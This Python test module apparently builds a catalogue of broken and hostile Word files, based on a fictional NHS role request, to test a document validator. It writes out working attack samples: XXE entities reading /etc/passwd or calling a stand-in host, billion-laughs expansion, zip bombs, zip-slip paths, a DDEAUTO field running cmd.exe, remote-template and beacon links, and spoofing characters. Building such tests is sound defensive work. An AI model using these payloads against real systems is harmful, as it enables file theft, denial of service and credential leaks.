"""Word files that are broken, odd or hostile, each otherwise a completed request for a supplementary role."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from functools import partial

from tests.builders_docx import (
    MAIN_TYPES,
    NAMESPACES,
    cell,
    complex_field,
    control,
    deleted,
    document_part,
    inserted,
    links_part,
    package_parts,
    paragraph,
    row,
    run,
    table,
    text_box,
    zipped,
)
from tests.builders_ole import a_compound_file
from tests.catalogue.entry import Accepted, Entry, Refused
from tests.catalogue.zip_files import MIB, Member, bomb, member, zip_file

ROLE = "Menopause Advocate"
ANSWERS = {
    "Service Request number": "SR 6311820",
    "Date of request": "19 October 2026",
    "Your name": "Ann Lee",
    "Your job title": "Staff Support Lead",
    "Organisation": "Ironbridge Children's NHS Foundation Trust",
    "E-mail address": "ann.lee@ironbridge.example.nhs.uk",
    "Telephone": "0121 496 0533",
    "Region": "Midlands",
    "Name of role": ROLE,
    "Description of role": "A trained colleague who listens and tells staff where they can find help.",
    "Level of input": "Employee input",
    "Link to the wellbeing agenda": "It carries out the menopause part of our wellbeing plan.",
    "Justification": "A staff survey in May 2026 found that 61% of 900 women had nobody to ask.",
    "Benefits": "Fewer days of sickness: 140 were lost in 2025.",
}
TITLE = paragraph("Request for a New Supplementary Role")
Content = str | bytes
DAMAGED, NOT_WHOLE = "damaged or did not arrive whole", "not a complete Word document"
TOO_MUCH, TOO_LONG = "unpacks to far more than a form", "too long or too deeply nested"
FORBIDDEN = "a kind of instruction (a document type or entity)"


def body(extra: str = "", **changed: str) -> str:
    """The completed form's body; `changed` gives the cells of the questions that these words stand for as XML."""
    rows = "".join(row(label, changed.get(label.split()[-1].lower(), cell(text))) for label, text in ANSWERS.items())
    return TITLE + table(rows) + extra


def parts_of(
    extra: str = "",
    *,
    parts: Mapping[str, Content] | None = None,
    links: list[tuple[str, str, str]] | None = None,
    settings: list[tuple[str, str, str]] | None = None,
    kind: str = "docx",
    **changed: str,
) -> dict[str, Content]:
    """The parts of the completed form with something more in it; `settings` are the links of its settings part."""
    more = dict(parts or {})
    if settings is not None:
        more["word/settings.xml"] = f"<w:settings {NAMESPACES}/>"
        more["word/_rels/settings.xml.rels"] = links_part(settings)
    return package_parts(body(extra, **changed), kind=kind, parts=more, links=links or ())


def form(extra: str = "", **about: object) -> bytes:
    """The completed form as a file; see `parts_of`."""
    return zipped(parts_of(extra, **about))  # type: ignore[arg-type]


def changed(name: str, old: str, new: str) -> bytes:
    """The completed form with some text of one part replaced."""
    parts = parts_of()
    content = parts[name]
    assert isinstance(content, str)
    assert old in content
    parts[name] = content.replace(old, new)
    return zipped(parts)


def with_members(*more: Member, without: str = "", same_place: bool = False) -> bytes:
    """The completed form written byte by byte, with more members behind its own."""
    own = [member(name, content) for name, content in parts_of().items() if name != without]
    return zip_file([*own, *more], same_place=same_place)


def with_document(packed: Member) -> bytes:
    """A Word file whose main part is this member."""
    return with_members(packed, without="word/document.xml")


def document_of(inside: str) -> bytes:
    """A Word file with this body behind the completed form."""
    return form(inside)


def spoilt(at: bytes, offset: int, by: bytes) -> bytes:
    """The completed form with some bytes overwritten, `offset` bytes behind the last place where `at` stands."""
    data = bytearray(form())
    position = data.rindex(at) + offset
    data[position : position + len(by)] = by
    return bytes(data)


def doctype(part: str, declaration: str, inside: str = "", *, encoding: str = "utf-8") -> bytes:
    """The completed form with a document type in front of one part, and a reference to its entity in the body."""
    parts = parts_of(parts={"docProps/core.xml": "<c/>", "customXml/item1.xml": "<c/>"})
    content = parts[part]
    assert isinstance(content, str)
    content = content.replace(ROLE, inside) if inside else content
    head = f'<?xml version="1.0" encoding="{encoding}"?>{declaration}'
    parts[part] = (head + content).encode(encoding)
    return zipped(parts)


def other_package(main: str, kind: str) -> bytes:
    """An Office file of another program."""
    types = package_parts()["[Content_Types].xml"]
    assert isinstance(types, str)
    types = types.replace("/word/document.xml", f"/{main}").replace(MAIN_TYPES["docx"], kind)
    links = links_part([("rId1", "officeDocument", main)])
    return zipped({"[Content_Types].xml": types, "_rels/.rels": links, main: "<workbook/>"})


def strict() -> bytes:
    """The completed form in the names of ISO 29500 Strict."""
    names = {
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main": "http://purl.oclc.org/ooxml/wordprocessingml/main",
        "http://schemas.openxmlformats.org/officeDocument/2006/": "http://purl.oclc.org/ooxml/officeDocument/",
    }
    parts = parts_of()
    for name, content in parts.items():
        for transitional, purl in names.items():
            content = str(content).replace(transitional, purl)
        parts[name] = content
    return zipped(parts)


def nested_zip() -> bytes:
    """A zip file in a zip file, ten deep, with a bomb in the last."""
    inner = zip_file([bomb("bomb", 100 * MIB)])
    for depth in range(10):
        inner = zip_file([Member(f"{depth}.zip", inner, len(inner), method=0)])
    return inner


def overlapping() -> bytes:
    """250 parts of 40 MiB that all lead to the same bytes."""
    one = bomb("word/0.xml", 40 * MIB)
    names = ["word/document.xml", *(f"word/{at}.xml" for at in range(249))]
    return zip_file([replace(one, name=name) for name in names], same_place=True)


def ole_object(kind: str = "Embed") -> str:
    """A run with an object of another program in it."""
    return (
        f'<w:p><w:r><w:object><v:shape id="s"/><o:OLEObject Type="{kind}" ProgID="Package" ShapeID="s"'
        f' r:id="o1"/></w:object></w:r></w:p>'
    )


def picture(link: str) -> str:
    """A paragraph with a picture that lies elsewhere."""
    return (
        f'<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="{link}"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def header_with_beacon() -> bytes:
    """The completed form with a header that shows a picture from a web server."""
    section = '<w:sectPr><w:headerReference w:type="default" r:id="hd"/></w:sectPr>'
    parts = {
        "word/header1.xml": f"<w:hdr {NAMESPACES}>{picture('b')}</w:hdr>",
        "word/_rels/header1.xml.rels": links_part([("b", "image", _WEB)]),
    }
    return form(section, parts=parts, links=[("hd", "header", "header1.xml")])


def png(width: int, height: int) -> bytes:
    """A picture that claims to be this large."""
    import struct
    import zlib

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))

    head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def deep(levels: int) -> str:
    """Elements inside one another."""
    return f"{'<w:smartTag>' * levels}<w:r><w:t>deep</w:t></w:r>{'</w:smartTag>' * levels}"


def wide_cell(properties: str) -> str:
    """A table of one cell with these properties."""
    return table(row(cell("x", properties=properties)))


def laughs(levels: int = 10, times: int = 10) -> str:
    """Entities that each hold ten of the one before."""
    lines = ['<!ENTITY e0 "ha">']
    lines += [f'<!ENTITY e{level} "{f"&e{level - 1};" * times}">' for level in range(1, levels)]
    return f"<!DOCTYPE w [{''.join(lines)}]>"


def external(target: str) -> str:
    """A document type with an entity that stands for what lies elsewhere."""
    return f'<!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]>'


def value(content: str) -> str:
    """The cell of the role's name, with these runs in it."""
    return cell(f"<w:p>{content}</w:p>")


def repeated(inside: bytes, times: int) -> bytes:
    """A Word file whose body holds the same XML very often."""
    opening, _, closing = document_part(TITLE).partition("</w:body>")
    return zipped(
        parts_of() | {"word/document.xml": opening.encode() + inside * times + f"</w:body>{closing}".encode()}
    )


_MACROS = {"word/vbaProject.bin": a_compound_file({"VBA": b"Attribute VB_Name"})}
_UNC = "\\\\198.51.100.7\\share\\x.dotm"
_WEB = "https://198.51.100.7/x"
_NOT_FETCHED = "was not fetched"
_DTD_PARTS = ("[Content_Types].xml", "docProps/core.xml", "customXml/item1.xml")


def _entries() -> list[Entry]:
    found: list[Entry] = []

    def add(number: int, name: str, how: str, make: object, outcome: Accepted | Refused) -> None:
        found.append(Entry(number, name, how, make, outcome))  # type: ignore[arg-type]

    add(7, "macro-docm", "a macro-enabled document", partial(form, kind="docm", parts=_MACROS), Accepted(("macros",)))
    add(7, "macro-hidden-in-docx", "macros in a .docx", partial(form, parts=_MACROS), Accepted(("macros",)))
    add(8, "strict-ooxml", "saved as Strict Open XML", strict, Accepted())
    add(9, "truncated-half", "the first half", lambda: form()[: len(form()) // 2], Refused("corrupt", DAMAGED))
    add(9, "truncated-tail", "the last 30 bytes missing", lambda: form()[:-30], Refused("corrupt", DAMAGED))
    add(10, "bad-crc", "a wrong checksum", partial(spoilt, b"PK\1\2", 16, b"\1\2\3\4"), Refused("corrupt", DAMAGED))
    add(
        10,
        "bad-method",
        "packed in an unknown way",
        lambda: with_document(Member("word/document.xml", b"x", 1, method=99)),
        Refused("corrupt", DAMAGED),
    )
    for name, part in (("no-content-types", "[Content_Types].xml"), ("no-document", "word/document.xml")):
        outcome = Accepted() if name == "no-content-types" else Refused("corrupt", NOT_WHOLE)
        add(11, name, f"{part} missing", partial(with_members, without=part), outcome)
    add(
        12,
        "not-wellformed",
        "an element never closed",
        partial(changed, "word/document.xml", "</w:body>", ""),
        Refused("corrupt", DAMAGED),
    )
    add(
        12,
        "wrong-encoding",
        "bytes that are not UTF-8",
        lambda: zipped(parts_of() | {"word/document.xml": document_part("Größe").encode("latin-1")}),
        Refused("corrupt", DAMAGED),
    )
    add(
        12,
        "nul-in-xml",
        "a NUL character",
        partial(changed, "word/document.xml", "Ann Lee", "Ann\0Lee"),
        Refused("corrupt", DAMAGED),
    )
    add(
        13,
        "duplicate-member",
        "two main parts",
        lambda: with_members(member("word/document.xml", document_part("other"))),
        Refused("dangerous", "two versions of the same part"),
    )
    add(
        14,
        "zip-slip",
        "a part named ../../etc/cron.d/x",
        lambda: with_members(member("../../etc/cron.d/x", "x")),
        Accepted(),
    )
    add(
        14,
        "zip-symlink",
        "a part that is a symbolic link",
        lambda: with_members(member("word/link", "/etc/passwd", attributes=0o120777)),
        Accepted(),
    )
    add(
        15,
        "zip-prefix",
        "a web page before the package",
        lambda: b"<html><script>alert(1)</script></html>" + form(),
        Accepted(),
    )
    add(
        16,
        "zipbomb-document-1g",
        "a main part of 1 GiB",
        lambda: with_document(bomb("word/document.xml", 1024 * MIB, opening=b"<w:document>")),
        Refused("too-large", TOO_MUCH),
    )
    add(
        16,
        "zipbomb-document-10g",
        "a main part of 10 GiB",
        lambda: with_document(bomb("word/document.xml", 10_240 * MIB)),
        Refused("too-large", TOO_MUCH),
    )
    add(
        17,
        "zipbomb-media",
        "a picture of 10 GiB",
        lambda: with_members(bomb("word/media/image1.png", 10_240 * MIB)),
        Refused("too-large", TOO_MUCH),
    )
    add(
        17,
        "zipbomb-unreferenced",
        "a part of 10 GiB that nothing names",
        lambda: with_members(bomb("junk.bin", 10_240 * MIB)),
        Refused("too-large", TOO_MUCH),
    )
    add(
        18,
        "zipbomb-liar",
        "2 GiB inside, 2,000 bytes claimed",
        lambda: with_document(bomb("word/document.xml", 2048 * MIB, claimed=2000)),
        Refused("too-large", TOO_MUCH),
    )
    add(
        19,
        "zipbomb-overlap",
        "250 parts that share their bytes",
        lambda: overlapping(),
        Refused("dangerous", "overlap"),
    )
    add(
        20,
        "zipbomb-nested",
        "zip in zip in an embedding",
        lambda: form(parts={"word/embeddings/a.zip": nested_zip()}),
        Accepted(),
    )
    add(
        21,
        "zip-70000-members",
        "70,000 parts",
        lambda: with_members(*(member(f"junk/{at}", "") for at in range(70_000))),
        Refused("too-complex", "far more parts"),
    )
    add(
        22,
        "xml-billion-laughs",
        "entities that multiply",
        lambda: doctype("word/document.xml", laughs(), "&e9;"),
        Refused("dangerous", FORBIDDEN),
    )
    add(
        22,
        "xml-billion-laughs-attr",
        "the same in an attribute",
        lambda: doctype("word/document.xml", laughs() + '<?x y="&e9;"?>'),
        Refused("dangerous", FORBIDDEN),
    )
    add(
        22,
        "xml-quadratic",
        "one long entity, used often",
        lambda: doctype("word/document.xml", f'<!DOCTYPE w [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 1000),
        Refused("dangerous", FORBIDDEN),
    )
    for name, target in (
        ("file", "file:///etc/passwd"),
        ("http", _WEB),
        ("unc", "file://198.51.100.7/x"),
        ("dev", "file:///dev/zero"),
    ):
        add(
            23,
            f"xxe-{name}",
            f"an entity that stands for {target}",
            partial(doctype, "word/document.xml", external(target), "&x;"),
            Refused("dangerous", FORBIDDEN),
        )
    add(
        23,
        "xxe-utf-16",
        "the same, in UTF-16",
        partial(doctype, "word/document.xml", external("file:///etc/passwd"), "&x;", encoding="utf-16"),
        Refused("dangerous", FORBIDDEN),
    )
    add(
        24,
        "xxe-dtd",
        "a document type elsewhere",
        partial(doctype, "word/document.xml", f'<!DOCTYPE w SYSTEM "{_WEB}">'),
        Refused("dangerous", FORBIDDEN),
    )
    for part in _DTD_PARTS:
        name = part.strip("[]").replace("[", "").split("/")[0].split(".")[0].replace("]", "").replace("_", "-").lower()
        add(
            24,
            f"xxe-{name}",
            f"an entity in {part}",
            partial(doctype, part, external("file:///etc/passwd")),
            Refused("dangerous", FORBIDDEN),
        )
    add(
        24,
        "xxe-xinclude",
        "an element that includes a file",
        partial(
            form, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ),
        Accepted(),
    )
    add(
        25,
        "xml-deep",
        "5,000 elements inside one another",
        lambda: document_of(deep(5000)),
        Refused("too-complex", TOO_LONG),
    )
    add(
        25,
        "xml-deep-200",
        "200 elements inside one another",
        lambda: document_of(f"<w:p>{deep(200)}</w:p>"),
        Accepted(),
    )
    add(
        26,
        "xml-1m-paragraphs",
        "a million paragraphs in 200 KB",
        lambda: repeated(b"<w:p/>", 1_000_000),
        Refused("too-complex", TOO_LONG),
    )
    add(26, "xml-1m-runs", "a million runs", lambda: repeated(b"<w:r/>", 1_000_000), Refused("too-complex", TOO_LONG))
    add(
        27,
        "xml-1-text-150mb",
        "one text of 150 MB",
        lambda: with_document(bomb("word/document.xml", 150 * MIB)),
        Refused("too-large", TOO_MUCH),
    )
    add(
        27,
        "xml-attr-30mb",
        "one attribute of 30 MB",
        lambda: changed("word/document.xml", "<w:body>", f'<w:body w:x="{"x" * 30_000_000}">'),
        Refused("too-complex", TOO_LONG),
    )
    add(
        28,
        "table-gridspan-2g",
        "a cell over 2,147,483,647 columns",
        lambda: document_of(wide_cell('<w:gridSpan w:val="2147483647"/>')),
        Refused("too-complex", "more columns than Word allows"),
    )
    add(
        29,
        "table-gridspan-neg",
        "a cell over -5 columns",
        lambda: document_of(wide_cell('<w:gridSpan w:val="-5"/>')),
        Accepted(),
    )
    add(
        29,
        "table-gridbefore",
        "a row 100,000 columns to the right",
        lambda: document_of(table(row("x", properties='<w:gridBefore w:val="100000"/>'))),
        Refused("too-complex", "more columns than Word allows"),
    )
    add(
        30,
        "table-vmerge-20000",
        "a cell merged over 20,000 rows",
        lambda: document_of(
            table(
                row(cell("x", properties='<w:vMerge w:val="restart"/>')),
                *[row(cell("", properties="<w:vMerge/>"))] * 20_000,
            )
        ),
        Accepted(),
    )
    add(
        31,
        "table-5000x63",
        "315,000 cells",
        lambda: document_of(table(*[row(*["x"] * 63)] * 5000)),
        Refused("too-complex", TOO_LONG),
    )
    add(31, "table-nested-60", "60 tables inside one another", lambda: document_of(_nested(60)), Accepted())
    add(31, "table-nested-80", "80 tables inside one another", lambda: document_of(_nested(80)), Accepted())
    add(
        32,
        "sdt-20000",
        "20,000 content controls",
        lambda: document_of(f"<w:p>{control(run('x')) * 20_000}</w:p>"),
        Accepted(),
    )
    add(
        32,
        "style-loop",
        "styles based on each other",
        lambda: form(paragraph("x", properties='<w:pStyle w:val="A"/>'), parts={"word/styles.xml": _style_loop()}),
        Accepted(),
    )
    add(
        32,
        "rel-cycle",
        "a document that includes itself",
        lambda: form('<w:altChunk r:id="me"/>', links=[("me", "aFChunk", "document.xml")]),
        Accepted(unread=("inserted file",)),
    )
    add(
        33,
        "rel-dangling",
        "a picture that leads to NULL, as Word writes it",
        lambda: form(links=[("n", "image", "NULL")]),
        Accepted(),
    )
    add(
        34,
        "pixel-flood",
        "a picture of 50,000 by 50,000 dots",
        lambda: form(
            picture("p").replace("r:link", "r:embed"),
            parts={"word/media/a.png": png(50_000, 50_000)},
            links=[("p", "image", "media/a.png")],
        ),
        Accepted(unread=("picture",)),
    )
    add(
        35,
        "regex-hostile",
        "answers that slow patterns down",
        lambda: form(benefits=cell(f"{'a' * 40_000}! {'1.' * 20_000} {'@a.' * 20_000} {'a@' * 20_000}")),
        Accepted(),
    )
    add(35, "token-5mb", "one word of 5 MB", lambda: form(benefits=cell("x" * 5_000_000)), Accepted())
    add(
        35,
        "text-2m-chars",
        "an answer of two million characters",
        lambda: form(benefits=cell("We save time. " * 150_000)),
        Accepted(),
    )
    add(
        36,
        "zalgo",
        "letters under heaps of accents",
        lambda: form(role=cell("M" + "\u0301\u0327\u0338" * 30 + "enopause")),
        Accepted(answer=""),
    )
    add(
        36,
        "bidi-spoof",
        "a word that runs backwards",
        lambda: form(role=cell("Menopause \u202eetacovdA")),
        Accepted(("cannot be seen",), answer=""),
    )
    add(
        36,
        "zero-width",
        "letters that cannot be seen",
        lambda: form(role=cell("Meno\u200bpause\u2060 Adv\u200docate")),
        Accepted(("cannot be seen",), answer=""),
    )
    for name, target in (("remote-template", _WEB), ("remote-template-unc", _UNC)):
        add(
            37,
            name,
            f"a template at {target}",
            partial(form, settings=[("t", "attachedTemplate", target)]),
            Accepted(("template",)),
        )
    add(
        37,
        "mailmerge-source",
        "a mailing list elsewhere",
        partial(form, settings=[("m", "mailMergeSource", "file:///c:/list.csv")]),
        Accepted(("mailing list",)),
    )
    add(
        38,
        "ole-link",
        "an object in another file",
        lambda: form(ole_object("Link"), links=[("o1", "oleObject", "file:///c:/x.xls")]),
        Accepted(("object in another file",), ("embedded file",)),
    )
    add(
        38,
        "ole-embedded",
        "an embedded program's object",
        lambda: form(
            ole_object(),
            parts={"word/embeddings/o.bin": a_compound_file({"\x01Ole10Native": b"MZ"})},
            links=[("o1", "oleObject", "embeddings/o.bin")],
        ),
        Accepted(unread=("embedded file",)),
    )
    add(
        38,
        "activex",
        "an ActiveX control",
        lambda: form(
            '<w:p><w:r><w:control r:id="a1" w:name="Button"/></w:r></w:p>',
            links=[("a1", "control", "activeX/activeX1.xml")],
            parts={"word/activeX/activeX1.xml": "<ax/>"},
        ),
        Accepted(unread=("ActiveX",)),
    )
    for name, code in (
        ("ddeauto", 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        ("includepicture", f'INCLUDEPICTURE "{_WEB}"'),
        ("includetext", 'INCLUDETEXT "c:\\\\x.txt"'),
        ("import", "IMPORT c:\\\\x.png"),
    ):
        add(
            39,
            f"field-{name}",
            f"a {name.upper()} field",
            lambda code=code: form(f"<w:p>{complex_field(code, 'x')}</w:p>"),
            Accepted((name.upper(),)),
        )
    add(
        40,
        "image-beacon",
        "a picture on a web server",
        lambda: form(picture("b"), links=[("b", "image", _WEB)]),
        Accepted(("picture from another place",), ("picture",)),
    )
    add(
        40,
        "image-beacon-header",
        "the same in the page's header",
        header_with_beacon,
        Accepted(("picture from another place",), ("picture",)),
    )
    add(
        40,
        "subdocument-remote",
        "a part of it on a web server",
        lambda: form('<w:subDoc r:id="s"/>', links=[("s", "subDocument", _WEB)]),
        Accepted(("another document",), ("linked document",)),
    )
    add(
        41,
        "altchunk-html",
        "a web page inside",
        lambda: form(
            '<w:altChunk r:id="h"/>',
            parts={"word/a.html": "<html><p>see this<script>alert(1)</script></p></html>"},
            links=[("h", "aFChunk", "a.html")],
        ),
        Accepted(("inserted file",)),
    )
    add(
        41,
        "altchunk-remote",
        "a web page elsewhere",
        lambda: form('<w:altChunk r:id="h"/>', links=[("h", "aFChunk", _WEB)]),
        Accepted(("another file",), ("inserted file",)),
    )
    for scheme in ("javascript:alert(1)", "file:///etc/passwd", _UNC, "data:text/html,x"):
        add(
            42,
            f"hyperlink-{scheme.partition(':')[0].strip(chr(92)).partition(chr(92))[0]}",
            f"a link to {scheme}",
            lambda scheme=scheme: form(
                f'<w:p><w:hyperlink r:id="l">{run("here")}</w:hyperlink></w:p>', links=[("l", "hyperlink", scheme)]
            ),
            Accepted(),
        )
    add(
        43,
        "tracked-changes",
        "the role's name changed, and not accepted",
        lambda: form(role=value(deleted("Old name") + inserted(run(ROLE)))),
        Accepted(("tracked changes",)),
    )
    add(
        44,
        "hidden-text",
        "words that Word hides",
        lambda: form(role=value(run(ROLE) + run(" of everything", "<w:vanish/>"))),
        Accepted(("hidden text",), answer=""),
    )
    add(
        44,
        "white-text",
        "words in white",
        lambda: form(role=value(run(ROLE) + run(" of everything", '<w:color w:val="FFFFFF"/>'))),
        Accepted(("white text",), answer=""),
    )
    add(
        44,
        "textbox-value",
        "the role's name in a text box",
        lambda: form(role=value(text_box(paragraph(ROLE)))),
        Accepted(),
    )
    return found


def _nested(levels: int) -> str:
    inside = paragraph("x")
    for _ in range(levels):
        inside = table(row(f"<w:tc>{inside}<w:p/></w:tc>"))
    return inside


def _style_loop() -> str:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{name}"><w:name w:val="{name}"/><w:basedOn w:val="{base}"/></w:style>'
        for name, base in (("A", "B"), ("B", "A"))
    )
    return f"<w:styles {NAMESPACES}>{styles}</w:styles>"


WORD_FILES = _entries()
